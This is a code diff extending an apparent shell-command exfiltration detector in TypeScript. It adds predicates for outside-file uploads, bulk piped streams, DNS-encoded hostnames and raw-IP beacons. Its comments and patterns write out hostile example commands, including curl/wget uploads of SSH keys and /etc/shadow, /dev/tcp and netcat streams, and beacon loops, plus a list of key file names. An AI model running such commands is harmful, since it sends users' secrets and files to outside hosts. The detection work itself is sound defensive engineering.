@@ -2,8 +2,9 @@
 import { own } from '../../own.js';
 import { globMatcher } from '../glob.js';
 import type { Subject } from '../subject.js';
-import { textNamesSecret } from './exfiltration-secrets.js';
+import { isSecretRead, textNamesSecret } from './exfiltration-secrets.js';
 import { HOME_DIR, serveExfiltrationPredicates } from './exfiltration-serve.js';
+import { collectionPredicates, readsBulk } from './exfiltration-collection.js';
 import { forPrograms, NETCATS, requires, type Predicate } from './programs.js';
 import type { Operation } from '../../ops/types.js';
 import type { Span } from '../../syntax/ast.js';
@@ -90,6 +91,17 @@ function writesToSocket(s: Subject): boolean {
   return s.cmd.redirects.some((r) => r.path !== null && /^\/dev\/(tcp|udp)\//.test(r.path.value) && !r.op.startsWith('<'));
 }
 
+/** What one upload check looks for: the operations that count, and the same paths as bare text. */
+interface Payload {
+  ops: readonly Operation[];
+  /** A path written in text where no operation resolves it (`ab -p PATH`, socat `file:PATH`). */
+  namesIt: (text: string) => boolean;
+  /** A project's .env copied to a server or bucket is how apps get deployed (secrets only). */
+  deployExempt: boolean;
+  /** Read option values as text too: a secret's name is one whatever it is, `-d /x` is often just data. */
+  optionText: boolean;
+}
+
 /**
  * The command uploads a secret file: curl -F f=@~/.ssh/id_rsa, curl -T ~/.aws/credentials,
  * wget --post-file=/etc/shadow, scp/rsync/aws s3 cp of a key to a remote, gh gist create .env,
@@ -97,60 +109,111 @@ function writesToSocket(s: Subject): boolean {
  * (scp -i, curl --cert) read keys to authenticate, not to send them, and do not count.
  */
 function uploadsSecret(s: Subject): boolean {
+  return uploads(s, { ops: s.secretReads, namesIt: textNamesSecret, deployExempt: true, optionText: true });
+}
+
+/** The same uploads as uploadsSecret, of an ordinary file from outside the workspace. */
+function uploadsOutsideFile(s: Subject): boolean {
+  return uploads(s, { ops: outsideReads(s), namesIt: (t) => namesOutsidePath(s, t), deployExempt: false, optionText: false });
+}
+
+/**
+ * An absolute path written in text (sftp `put /tmp/x`, socat `file:/var/log/x`) that is not under
+ * the command's directory nor a device: where no operation resolves it, the text is all there is.
+ */
+function namesOutsidePath(s: Subject, text: string): boolean {
+  const m = /^\s*['"]?((?:~|\$HOME)?\/[^\s'"]*)/.exec(text);
+  if (!m || /^\/dev\//.test(m[1]) || textNamesSecret(' ' + m[1])) return false;
+  const cwd = (s.cmd.cwd ?? '').replace(/\/$/, '');
+  return cwd === '' || !(m[1] + '/').startsWith(cwd + '/');
+}
+
+/** Non-secret files and directories read outside the workspace (a temp file counts: /tmp is where loot is staged). */
+export function outsideReads(s: Subject): Operation[] {
+  return s.ops.filter(
+    (o) =>
+      (o.kind === 'Read' || o.kind === 'List') &&
+      o.path !== undefined &&
+      !isSecretRead(o) &&
+      !readsBulk(o) &&
+      (o.classes ?? []).some((c) => OUTSIDE_CLASSES.has(c)) &&
+      !(o.classes ?? []).includes('workspace'),
+  );
+}
+
+const OUTSIDE_CLASSES: ReadonlySet<string> = new Set(['outside', 'temp', 'home', 'root', 'system', 'exec-config', 'sensitive']);
+
+function uploads(s: Subject, payload: Payload): boolean {
   const p = s.cmd.program;
   if (p === null) return false;
-  const secretOps = s.secretReads;
+  const found = payload.ops;
   // `cat ~/.ssh/id_rsa > /dev/tcp/h/p`
-  if (secretOps.length > 0 && writesToSocket(s)) return true;
-  // stdin from a secret file, to anything that sends its stdin
-  if (secretOps.some((o) => o.source === 'redirect') && sendsStdin(s)) return true;
+  if (found.length > 0 && writesToSocket(s)) return true;
+  // stdin from the file, to anything that sends its stdin
+  if (found.some((o) => o.source === 'redirect') && sendsStdin(s)) return true;
   const names = uploadOptions(p);
   if (names.length > 0) {
-    const uploads = s.parsed.options.filter((o) => names.includes(o.name) && o.value !== null).map((o) => o.value!);
-    if (secretOps.some((op) => uploads.some((v) => within(op.span, v.span)))) return true;
+    const values = s.parsed.options.filter((o) => names.includes(o.name) && o.value !== null).map((o) => o.value!);
+    if (found.some((op) => values.some((v) => within(op.span, v.span)))) return true;
+    if (!payload.optionText) return false;
     // specs that do not resolve the option's file: `ab -p /etc/shadow`, `hping3 --file /etc/shadow`
-    if (uploads.some((v) => textNamesSecret(valuePath(v.value)))) return true;
+    if (values.some((v) => payload.namesIt(valuePath(v.value)))) return true;
     // no spec at all: `--file /etc/shadow` as plain words
     const args = s.cmd.args.map((a) => a.value);
-    return args.some((a, i) => names.includes(a) && i + 1 < args.length && textNamesSecret(valuePath(args[i + 1])));
+    return args.some((a, i) => names.includes(a) && i + 1 < args.length && payload.namesIt(valuePath(args[i + 1])));
   }
   if (p === 'socat') {
     return (
-      s.cmd.args.some((a) => /^(file|open|gopen):/i.test(a.value) && textNamesSecret(' ' + a.value.replace(/^[a-z]+:/i, '').split(',')[0])) &&
+      s.cmd.args.some((a) => /^(file|open|gopen):/i.test(a.value) && socatFileNamed(a.value, found, payload)) &&
       s.cmd.args.some((a) => /^(tcp|udp|ssl|openssl|sctp)[0-9-]*[a-z-]*:/i.test(a.value))
     );
   }
-  // Every case below sends secret operands: other programs stop here, before any parsing.
+  // Every case below sends operands: other programs stop here, before any parsing.
   if (!REMOTE_COPIERS.has(p) && !OPERAND_SENDERS.has(p)) return false;
   // A project's .env copied to a server or bucket is how apps get deployed; to a gist, a form
   // upload or a raw socket it is a leak (handled above and below).
-  const deployable = (o: Operation) => /\/\.env(\.[^/]*)?$/.test(o.path ?? '') && !(o.classes ?? []).includes('outside');
-  const operandSecret = secretOps.some((o) => o.source === 'operand' && !(deployable(o) && p !== 'gh' && p !== 'glab'));
+  const deployable = (o: Operation) => payload.deployExempt && /\/\.env(\.[^/]*)?$/.test(o.path ?? '') && !(o.classes ?? []).includes('outside');
+  const operandFound = found.some((o) => o.source === 'operand' && !(deployable(o) && p !== 'gh' && p !== 'glab'));
   if (REMOTE_COPIERS.has(p)) {
     const printer = p === 'lp' || p === 'lpr';
-    const operandText = () => s.parsed.operands.some((a) => textNamesSecret(' ' + a.value));
-    return (operandSecret || (printer && operandText())) && (printer || p === 'smbclient' || hasRemoteTarget(s));
+    const operandText = () => s.parsed.operands.some((a) => payload.namesIt(' ' + a.value));
+    return (operandFound || (printer && operandText())) && (printer || p === 'smbclient' || hasRemoteTarget(s));
   }
-  if (p === 'aws') return s.parsed.subcommands[0] === 's3' && operandSecret && hasRemoteTarget(s);
-  if (p === 'gcloud' || p === 'az') return operandSecret && hasRemoteTarget(s);
+  if (p === 'aws') return s.parsed.subcommands[0] === 's3' && operandFound && hasRemoteTarget(s);
+  if (p === 'gcloud' || p === 'az') return operandFound && hasRemoteTarget(s);
   if (p === 'gh' || p === 'glab') {
     const sub = s.cmd.args.filter((a) => !a.value.startsWith('-')).map((a) => a.value);
-    return (sub[0] === 'gist' || (sub[0] === 'release' && sub[1] === 'upload') || sub[0] === 'snippet') && operandSecret;
+    return (sub[0] === 'gist' || (sub[0] === 'release' && sub[1] === 'upload') || sub[0] === 'snippet') && operandFound;
   }
   if (p === 'tar' || p === 'bsdtar' || p === 'gtar') {
-    return operandSecret && (s.hasFlag('--rsh-command') || s.ops.some((o) => o.kind === 'Network'));
+    return operandFound && (s.hasFlag('--rsh-command') || s.ops.some((o) => o.kind === 'Network'));
   }
   return false;
+}
+
+/** socat's `file:PATH,opts` address names one of the payload's files (its path, or its text). */
+function socatFileNamed(address: string, found: readonly Operation[], payload: Payload): boolean {
+  const path = address.replace(/^[a-z]+:/i, '').split(',')[0];
+  return payload.namesIt(' ' + path) || found.some((o) => o.path === path);
 }
 
 const FILE_TRANSFER = ['sftp', 'ftp', 'lftp', 'smbclient', 'tftp', 'ncftp', 'ncftpput'];
 
 /** sftp/ftp/lftp/smbclient told to `put` a secret file (batch text on stdin or in -c). */
 function putsSecret(s: Subject): boolean {
+  return puts(s, textNamesSecret);
+}
+
+/** The same batch `put` of an ordinary file from outside the workspace. */
+function putsOutsideFile(s: Subject): boolean {
+  return puts(s, (t) => namesOutsidePath(s, t));
+}
+
+function puts(s: Subject, namesIt: (text: string) => boolean): boolean {
   const p = s.cmd.program;
   if (p === null || !FILE_TRANSFER.includes(p)) return false;
   const texts = [...s.cmd.redirects.map((r) => r.input ?? ''), ...s.cmd.args.map((a) => a.value)];
-  return texts.some((t) => /\b(put|mput|send|append)\s+\S/.test(t) && textNamesSecret(' ' + t.replace(/^[\s\S]*?\b(put|mput|send|append)\s+/, ' ')));
+  return texts.some((t) => /\b(put|mput|send|append)\s+\S/.test(t) && namesIt(' ' + t.replace(/^[\s\S]*?\b(put|mput|send|append)\s+/, ' ')));
 }
 
 // ---------------------------------------------------------------------------------------------
@@ -214,6 +277,59 @@ function pipesSecret(s: Subject): boolean {
   return s.pipelineNeighbours('before').some(
     // `cat .env | ssh host 'cat > /srv/app/.env'` deploys a project's env file
     (o) => isSecretSource(o, !ownHost) && !(ownHost && o.secretReads.every((x) => /\/\.env(\.[^/]*)?$/.test(x.path ?? '')) && o.secretReads.length > 0),
+  );
+}
+
+/** A stdin-reading value of an upload option: `-T -`, `-d @-`, `-F f=@-`, `-F f=<-`, `--post-file=/dev/stdin`. */
+const STDIN_VALUE = /^(-|@-|[^=\s]*=[@<]-|@?\/dev\/stdin|[^=\s]*=@\/dev\/stdin)$/;
+
+/**
+ * The command sends what it reads on stdin: an HTTP client only when an upload option reads it
+ * (`curl -T -`, `--data-binary @-`; httpie sends piped input as the body), the other senders always.
+ */
+export function sendsPipedStdin(s: Subject): boolean {
+  const p = s.cmd.program;
+  if (p === null || !sendsStdin(s)) return false;
+  if (!HTTP_CLIENTS.has(p)) return true;
+  if (p === 'http' || p === 'https' || p === 'xh' || p === 'httpie') return true;
+  const names = uploadOptions(p);
+  return s.parsed.options.some((o) => names.includes(o.name) && o.value !== null && STDIN_VALUE.test(o.value.value));
+}
+
+/** A stdin sender fed by an earlier pipeline stage that reads bulk data: `tar czf - /home/* | ssh h 'cat > x'`, `tar cf - /etc | nc h 9000`. */
+function streamsBulk(s: Subject): boolean {
+  return sendsPipedStdin(s) && s.pipelineNeighbours('before').some((o) => o.ops.some((x) => readsBulk(x) && !isSecretRead(x)));
+}
+
+/** A stdin sender fed by an earlier stage that reads ordinary files outside the workspace: `cat /var/log/syslog | nc h 9000`. */
+function streamsOutsideFile(s: Subject): boolean {
+  return sendsPipedStdin(s) && s.pipelineNeighbours('before').some((o) => outsideReads(o).length > 0);
+}
+
+/** Reads bulk data (for copiers given a remote target): a home directory or all of them, /, /etc. */
+function readsBulkData(s: Subject): boolean {
+  return s.ops.some((o) => readsBulk(o) && !isSecretRead(o));
+}
+
+/** Options whose value is always a file to send. */
+const FILE_UPLOAD_OPTIONS = new Set(['-T', '--upload-file', '--post-file', '--body-file']);
+
+/**
+ * The command sends a file or the output of other commands, not only literal text: an upload
+ * option naming a file (`-F f=@x`, `-T x`, `--data-binary @x`, `--post-file=x`) or holding a
+ * substitution or variable (`-d "$(cat x)"`, `-d "$r"`), or stdin fed by a pipe or a file
+ * (`… | curl --data-binary @-`, `nc termbin.com 9999 < x`). `-d '{"text":"done"}'` is a message.
+ */
+export function sendsFileOrOutput(s: Subject): boolean {
+  const p = s.cmd.program;
+  if (p === null) return false;
+  if (!HTTP_CLIENTS.has(p)) {
+    return sendsStdin(s) && (s.pipelineNeighbours('before').length > 0 || s.cmd.redirects.some((r) => r.op.startsWith('<')) || s.cmd.stdinText !== null);
+  }
+  if (sendsPipedStdin(s) && s.pipelineNeighbours('before').length > 0) return true;
+  const names = uploadOptions(p);
+  return s.parsed.options.some(
+    (o) => names.includes(o.name) && o.value !== null && (o.value.dynamic || /^@|^[^=\s]*=[@<]/.test(o.value.value) || FILE_UPLOAD_OPTIONS.has(o.name)),
   );
 }
 
@@ -296,6 +412,54 @@ function whoisExfil(s: Subject): boolean {
   return s.cmd.args.some((a) => a.value === '-h' || a.value.startsWith('-h') || a.value === '--host') && s.feeders().length > 0;
 }
 
+/** A first DNS label that is encoded data: base64 padding (`MTEx…=`), or a long mixed-case base64 run. */
+const ENCODED_LABEL = /^([A-Za-z0-9+/_-]{2,}={1,2}|(?=[A-Za-z0-9]*[A-Z])(?=[A-Za-z0-9]*[a-z])(?=[A-Za-z0-9]*[0-9])[A-Za-z0-9]{20,})$/;
+
+/**
+ * A host name whose first label is encoded data (`curl MTExLTExLTExMTE=.collector.example`,
+ * `dig aGVsbG8=.ns.example`): the lookup itself carries the text to the domain's DNS server.
+ * Hosts come from the command's network operations, and for DNS tools from their operands.
+ */
+function encodedHost(s: Subject): boolean {
+  // a URL without a scheme has no parsed host: its target is the text
+  const hosts = s.ops.flatMap((o) => (o.kind === 'Network' ? [o.host ?? o.target ?? ''] : []));
+  if (DNS_TOOLS.includes(s.cmd.program ?? '')) hosts.push(...s.parsed.operands.map((a) => a.value));
+  return hosts.some((h) => {
+    const labels = h
+      .replace(/^[a-z]+:\/\//i, '')
+      .split(/[/:]/)[0]
+      .split('.');
+    return labels.length >= 3 && ENCODED_LABEL.test(labels[0]);
+  });
+}
+
+/** Ports of everyday services: talking to them on a raw address is not yet odd. */
+const USUAL_PORTS = new Set(['80', '443', '21', '22', '25', '53', '110', '143', '465', '587', '993', '995']);
+
+const BEACON_CLIENTS = ['curl', 'wget', 'nc', 'ncat', 'netcat', 'socat', 'telnet', 'openssl', 'http', 'xh'];
+
+/** A literal IPv4 address that is not loopback or unspecified. */
+function remoteIpv4(text: string): boolean {
+  return /^\d{1,3}(\.\d{1,3}){3}$/.test(text) && !/^(127\.|0\.0\.0\.0$)/.test(text);
+}
+
+/**
+ * Inside a loop, a client contacts a literal IP address on a port no everyday service uses
+ * (`while :; do curl -s http://203.0.113.5:8443/t; sleep 60; done`, `nc 198.51.100.7 4444` in a
+ * loop): how an implant beacons to its controller. Loopback (a dev server) does not count.
+ */
+function rawIpBeacon(s: Subject): boolean {
+  if (!s.cmd.context.loop || !BEACON_CLIENTS.includes(s.cmd.program ?? '')) return false;
+  const args = s.cmd.args.map((a) => a.value);
+  return args.some((a, i) => {
+    const m = /^(?:[a-z][a-z0-9+.-]*:\/\/)?(?:[^@/\s]*@)?(\d{1,3}(?:\.\d{1,3}){3})(?::(\d+))?(?:[/?#]|$)/i.exec(a);
+    if (!m || !remoteIpv4(m[1])) return false;
+    // `nc IP PORT`, `telnet IP PORT`: the port is the next operand
+    const port = m[2] ?? (/^\d+$/.test(args[i + 1] ?? '') ? args[i + 1] : undefined);
+    return port !== undefined && !USUAL_PORTS.has(port);
+  });
+}
+
 /** Names of files worth stealing, as a find/locate/grep looks for them. */
 const KEY_NAMES = /id_(rsa|dsa|ecdsa|ed25519)|\.pem\b|\.key\b|\.p12\b|\.pfx\b|\.kdbx\b|credentials|\.env\b|wallet\.dat|\.ovpn\b|private/i;
 
@@ -375,5 +539,14 @@ export const exfiltrationPredicates: Record<string, Predicate> = {
   'exfiltration/reads-home-or-root': requires([{ features: ['Read', 'List'] }], readsHomeOrRoot),
   'exfiltration/uploads-collected-keys': forPrograms(KEY_SENDERS, uploadsCollectedKeys),
   'exfiltration/secret-to-web-root': requires([{ features: ['Write'] }, { features: ['Read', 'List'] }], secretToWebRoot),
+  'exfiltration/uploads-outside-file': requires([{ programs: UPLOADERS, features: ['path:/dev'] }], uploadsOutsideFile),
+  'exfiltration/puts-outside-file': forPrograms(FILE_TRANSFER, putsOutsideFile),
+  'exfiltration/streams-bulk': requires([{ features: ['pipeline'] }], forPrograms(STDIN_SENDERS, streamsBulk)),
+  'exfiltration/streams-outside-file': requires([{ features: ['pipeline'] }], forPrograms(STDIN_SENDERS, streamsOutsideFile)),
+  'exfiltration/sends-file-or-output': forPrograms(STDIN_SENDERS, sendsFileOrOutput),
+  'exfiltration/raw-ip-beacon': requires([{ features: ['loop'] }], forPrograms(BEACON_CLIENTS, rawIpBeacon)),
+  'exfiltration/encoded-host': requires([{ features: ['Network'] }], encodedHost),
+  'exfiltration/reads-bulk': requires([{ features: ['Read', 'List'] }], readsBulkData),
   ...serveExfiltrationPredicates,
+  ...collectionPredicates,
 };
